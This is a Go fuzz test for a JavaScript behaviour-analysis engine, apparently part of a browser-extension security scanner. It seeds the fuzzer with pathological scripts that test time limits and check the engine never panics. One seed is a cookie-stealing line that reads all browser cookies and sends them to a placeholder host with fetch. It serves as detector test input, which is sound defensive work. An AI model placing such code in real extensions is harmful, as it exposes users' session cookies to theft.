package flow

import (
	"testing"
	"time"

	"github.com/extwatch/extwatch/manifests"
	"github.com/extwatch/extwatch/signatures/behavior"
	"github.com/extwatch/extwatch/signatures/behavior/syntax"
)

// FuzzEngine runs the engine over whatever parses: it must end in time, and never panic.
func FuzzEngine(f *testing.F) {
	for _, s := range []string{
		`chrome.cookies.getAll({}, c => fetch("https://a.test/" + c))`,
		`class A extends A { constructor(){ super(); new A() } }`,
		`function f(x){ return f(f(f(x))) } f(f)`,
		`var a = []; a.push(a); a[0] = a; JSON.stringify(a); Object.assign(a, a)`,
		`var o = {get x(){ return this.x }, set x(v){ this.x = v }}; o.x = o.x`,
		`for (const k in this) this[k] = this; window.x = window; x.x = x`,
		`const p = new Promise(r => r(p)); p.then(p => p.then(p))`,
		`function* g(){ yield* g() } for (const x of g()) x(g)`,
		`let {a: {b = a, ...c} = b} = c, [d = e, ...e] = d;`,
		`chrome.runtime.onMessage.addListener((m, s, r) => { r(m); chrome.runtime.sendMessage({m}) })`,
		`eval("eval('eval(\"x\")')"); new Function("return this")()`,
		"`${`${`${x}`}`}`; a?.b?.[c]?.(d); (async () => { for await (const x of y) await x })()",
		`eval(); new Function(); setTimeout(); fetch(); new WebSocket()`,
		`while (true) { switch (o[i++]) { case "0": continue } break }`,
		`import a, {b as c} from "./a.js"; export * from "./a.js"; export {a as default}; export const q = 1`,
		`(function f(){ arguments[0] = f; f.apply(f, arguments) })(f)`,
		`Object.defineProperty(x, "y", {get(){ return this.y }}); new Proxy(fetch, {apply(t, s, a){ return t(...a) }})()`,
		`x = x + x; x += x; x = [x, ...x]; x = {x, ...x}; x = x.concat(x)`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		ast, src, err := syntax.ParseScript([]byte(s))
		if err != nil || ast == nil {
			return
		}
		for _, c := range []behavior.Context{behavior.Background, behavior.Content} {
			u := &Script{File: "a.js", Context: c, Src: src, AST: ast, Module: len(s)%2 == 0}
			e := newEngine(&manifests.Manifest{}, []*Script{u}, budget{steps: 200_000, task: 100_000})
			start := time.Now()
			e.Run()
			e.Report()
			if d := time.Since(start); d > time.Minute {
				t.Errorf("took %v", d)
			}
		}
	})
}
